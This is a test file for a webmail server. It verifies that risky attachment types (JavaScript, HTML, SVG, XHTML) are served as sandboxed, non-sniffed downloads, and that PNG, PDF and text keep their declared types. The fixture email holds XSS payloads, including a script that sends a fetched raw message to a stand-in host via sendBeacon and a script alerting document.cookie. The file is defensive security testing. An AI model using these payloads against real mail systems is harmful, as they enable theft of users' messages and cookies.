/**
 * issue 13 item 15: attachments come from the app's origin, so the type the
 * sender declared must never make them run there. Script, HTML, SVG and
 * XHTML attachments are served as a download of opaque bytes
 * (application/octet-stream), never sniffed, in a sandbox that may load
 * nothing; inert types (raster images, PDF, plain text) keep their type.
 */
import { test, expect, describe, beforeAll, afterAll } from "bun:test";
import { ALICE, ApiClient, startWebmailServer, smtpSend } from "./helpers.ts";

let srv: Awaited<ReturnType<typeof startWebmailServer>>;
let c: ApiClient;
let attachments: { index: number; filename: string; type: string }[] = [];
let messageId = 0;

// 1x1 transparent PNG
const PNG = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==", "base64");

function part(type: string, name: string, body: Buffer | string): string {
  const b64 = Buffer.from(body).toString("base64").match(/.{1,76}/g)!.join("\r\n");
  return `Content-Type: ${type}; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64}\r\n`;
}

beforeAll(async () => {
  srv = await startWebmailServer();
  const boundary = "b-attach-types";
  const parts = [
    `Content-Type: text/plain; charset=utf-8\r\n\r\nSee attached.\r\n`,
    part("text/javascript", "run.js", "fetch('/api/messages/1/raw').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.test/',t))"),
    part("text/html", "page.html", "<script>alert(document.cookie)</script>"),
    part("image/svg+xml", "pic.svg", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`),
    part("application/xhtml+xml", "doc.xhtml", `<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`),
    part("image/png", "dot.png", PNG),
    part("text/plain; charset=iso-8859-1", "notes.txt", Buffer.from("caf\xe9\n", "latin1")),
    part("application/pdf", "doc.pdf", "%PDF-1.4\n%%EOF\n"),
  ];
  const raw = [
    `From: Mallory <mallory@evil.test>`,
    `To: ${ALICE.email}`,
    `Subject: Attachment types`,
    `Message-ID: <attach-types@evil.test>`,
    `Date: ${new Date().toUTCString()}`,
    "MIME-Version: 1.0",
    `Content-Type: multipart/mixed; boundary="${boundary}"`,
    "",
    ...parts.map((p) => `--${boundary}\r\n${p}`),
    `--${boundary}--`,
    "",
  ].join("\r\n");
  await smtpSend(srv.port("SMTP"), "mallory@evil.test", [ALICE.email], raw);
  c = await ApiClient.signIn(srv.base, ALICE);
  const folders = await c.ok<{ folders: { id: number; name: string }[] }>("GET", "/api/folders");
  const inbox = folders.folders.find((f) => f.name === "INBOX")!;
  const list = await c.ok<{ items: { id: number; subject: string }[] }>("GET", `/api/folders/${inbox.id}/messages`);
  messageId = list.items.find((m) => m.subject === "Attachment types")!.id;
  attachments = (await c.ok<{ attachments: typeof attachments }>("GET", `/api/messages/${messageId}`)).attachments;
}, 30_000);

afterAll(async () => {
  await srv?.close();
});

async function fetchAttachment(name: string) {
  const a = attachments.find((x) => x.filename === name);
  expect(a).toBeDefined();
  return c.get(`/api/messages/${messageId}/attachments/${a!.index}`);
}

describe("attachment responses", () => {
  for (const [name, declared] of [
    ["run.js", "text/javascript"],
    ["page.html", "text/html"],
    ["pic.svg", "image/svg+xml"],
    ["doc.xhtml", "application/xhtml+xml"],
  ] as const) {
    test(`${declared} is a download of opaque bytes: attachment, octet-stream, nosniff, sandboxed`, async () => {
      const res = await fetchAttachment(name);
      expect(res.status).toBe(200);
      expect(res.headers["content-type"]).toBe("application/octet-stream");
      expect(res.headers["x-content-type-options"]).toBe("nosniff");
      expect(res.headers["content-disposition"]).toBe(`attachment; filename="${name}"; filename*=UTF-8''${name}`);
      const csp = String(res.headers["content-security-policy"]);
      expect(csp).toMatch(/(^|;\s*)sandbox(;|$)/);
      expect(csp).toContain("default-src 'none'");
      // The bytes themselves are untouched.
      expect(res.text.length).toBeGreaterThan(10);
    });
  }

  test("inert types keep their type (PNG, PDF, plain text with its charset), still as downloads", async () => {
    const png = await fetchAttachment("dot.png");
    expect(png.headers["content-type"]).toBe("image/png");
    expect(Buffer.compare(png.body, PNG)).toBe(0);
    const pdf = await fetchAttachment("doc.pdf");
    expect(pdf.headers["content-type"]).toBe("application/pdf");
    const txt = await fetchAttachment("notes.txt");
    expect(txt.headers["content-type"]).toBe("text/plain; charset=iso-8859-1");
    for (const r of [png, pdf, txt]) {
      expect(r.headers["x-content-type-options"]).toBe("nosniff");
      expect(String(r.headers["content-disposition"])).toStartWith("attachment;");
    }
  });

  test("a non-ASCII file name is sent as RFC 6266 filename* with an ASCII fallback", async () => {
    const { attachmentContentType, contentDisposition } = await import("../../protocols/http/webmail/util.ts");
    expect(contentDisposition("attachment", "résumé \"final\".pdf")).toBe(`attachment; filename="r_sum_ _final_.pdf"; filename*=UTF-8''r%C3%A9sum%C3%A9%20%22final%22.pdf`);
    for (const t of ["text/html", "TEXT/JavaScript", "image/svg+xml", "application/xhtml+xml", "text/xml", "application/xml", "text/css", "multipart/x-mixed-replace", "application/javascript", "text/ecmascript", "application/x-shockwave-flash", "", "garbage"])
      expect(attachmentContentType(t)).toBe("application/octet-stream");
    expect(attachmentContentType("text/plain", 'utf-8"; x=y')).toBe("text/plain; charset=utf-8");
  });
});
